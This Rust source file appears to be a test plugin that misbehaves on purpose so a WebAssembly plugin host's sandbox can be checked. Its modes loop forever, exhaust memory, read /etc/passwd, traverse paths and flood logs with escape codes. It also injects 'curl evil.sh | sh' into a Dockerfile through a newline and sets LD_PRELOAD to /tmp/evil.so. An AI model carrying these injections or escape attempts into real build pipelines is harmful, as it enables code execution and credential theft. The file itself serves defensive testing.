//! A plugin that misbehaves on purpose. The `mode` parameter picks how; the
//! tests bundle this one component under several names.

use std::hint::black_box;
use std::sync::atomic::{AtomicU64, Ordering};

use paddock_guest::{ActionReport, HookContext, HookError, HookResult, Plugin, export_plugin, log};

struct Misbehaving;

/// Calls seen by this instance: shows whether an instance was reused.
static CALLS: AtomicU64 = AtomicU64::new(1);

fn mode(ctx: &HookContext) -> &str {
    ctx.text("mode").unwrap_or("behave")
}

impl Plugin for Misbehaving {
    fn deploy(ctx: &HookContext) -> HookResult<ActionReport> {
        match mode(ctx) {
            "loop" => loop {
                black_box(0);
            },
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "panic" => panic!("boom: the `target` parameter is missing"),
            "recursion" => Ok(ActionReport::new(recurse(black_box(1)).to_string())),
            "fail" => Err(HookError::failed("database is down")),
            // Blocked inside host calls, where epoch interruption cannot reach.
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(ActionReport::new("slept an hour"))
            }
            "poll-forever" => {
                let never = wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX);
                wasip2::io::poll::poll(&[&never]);
                Ok(ActionReport::new("a pollable that never fires fired"))
            }
            "count" => Ok(ActionReport::new(CALLS.fetch_add(1, Ordering::Relaxed).to_string())),
            "escape" => Err(HookError::failed("\x1b[31mred\x1b[0m\r\nsecond line")),
            "read-file" => Ok(ActionReport::new("tried the filesystem")
                .detail("/etc/passwd", describe(std::fs::read_to_string("/etc/passwd")))
                .detail(".", describe(std::fs::read_dir(".").map(|d| d.count())))),
            "bundle-files" => {
                let path = format!("/bundle/{}", ctx.text("path").unwrap_or("config.txt"));
                Ok(ActionReport::new(std::fs::read_to_string(&path).unwrap_or_else(|e| format!("denied: {e}")))
                    .detail("write", describe(std::fs::write("/bundle/written.txt", "plugin was here")))
                    .detail("escape", describe(std::fs::read_to_string("/bundle/../../etc/passwd")))
                    .detail("host root", describe(std::fs::read_dir("/"))))
            }
            "random" => {
                let size = ctx.integer("bytes").unwrap_or(1 << 30) as u64;
                let bytes = wasip2::random::random::get_random_bytes(size);
                Ok(ActionReport::new(format!("got {} random bytes", bytes.len())))
            }
            "read-env" => Ok(ActionReport::new(std::env::var("HTTP_PROXY").unwrap_or_else(|e| e.to_string()))),
            "env" => Ok(ActionReport::new("tried env and args")
                .detail("env", std::env::vars().count().to_string())
                .detail("args", std::env::args().count().to_string())),
            "tcp" => Ok(ActionReport::new("tried the network")
                .detail("tcp", describe(std::net::TcpStream::connect("127.0.0.1:80")))
                .detail("udp", describe(std::net::UdpSocket::bind("0.0.0.0:0")))
                .detail("dns", describe(std::net::ToSocketAddrs::to_socket_addrs("localhost:80")))),
            "flood" => {
                for _ in 0..100_000 {
                    println!("flooding stdout with a line of text that goes nowhere useful at all");
                    eprintln!("and stderr too");
                }
                Ok(ActionReport::new("flooded"))
            }
            "log" => {
                for i in 0..10_000 {
                    log::info(&format!("log line {i} \x1b[2J"));
                }
                Ok(ActionReport::new("logged"))
            }
            _ => Ok(ActionReport::new(format!("behaved as {}", ctx.plugin_id))),
        }
    }

    fn dockerfile_injection(ctx: &HookContext) -> HookResult<Vec<String>> {
        Ok(match mode(ctx) {
            "newline" => vec!["RUN echo a\nRUN curl evil.sh | sh".to_string()],
            "heredoc" => vec!["RUN <<EOF".to_string()],
            "lines" => (0..ctx.integer("count").unwrap_or(0)).map(|i| format!("RUN echo line {i}")).collect(),
            "echo-lines" => ctx.text_list("lines").unwrap_or_default().to_vec(),
            "huge-list" => vec!["RUN true".to_string(); 10_000_000],
            "huge-string" => vec!["RUN echo ".to_string() + &"x".repeat(100 << 20)],
            _ => vec![format!("RUN echo {}", ctx.plugin_id)],
        })
    }

    fn bootstrap_injection(ctx: &HookContext) -> HookResult<Option<String>> {
        // Echoes the `script` parameter: a payload through the boundary both ways.
        Ok(ctx.text("script").map(str::to_string))
    }

    fn job_runtime_env_vars(ctx: &HookContext) -> HookResult<Vec<(String, String)>> {
        Ok(match mode(ctx) {
            "ld-preload" => vec![("LD_PRELOAD".to_string(), "/tmp/evil.so".to_string())],
            "bad-name" => vec![("BAD NAME".to_string(), "x".to_string())],
            "vars" => {
                (0..ctx.integer("count").unwrap_or(0)).map(|i| (format!("VAR_{i}"), format!("value {i}"))).collect()
            }
            _ => vec![("SHARED".to_string(), ctx.plugin_id.clone())],
        })
    }
}

fn recurse(depth: u64) -> u64 {
    if depth == 0 { 0 } else { 1 + recurse(black_box(depth + 1)) }
}

fn describe<T, E: std::fmt::Display>(result: Result<T, E>) -> String {
    match result {
        Ok(_) => "allowed".to_string(),
        Err(error) => format!("denied: {error}"),
    }
}

export_plugin!(Misbehaving);
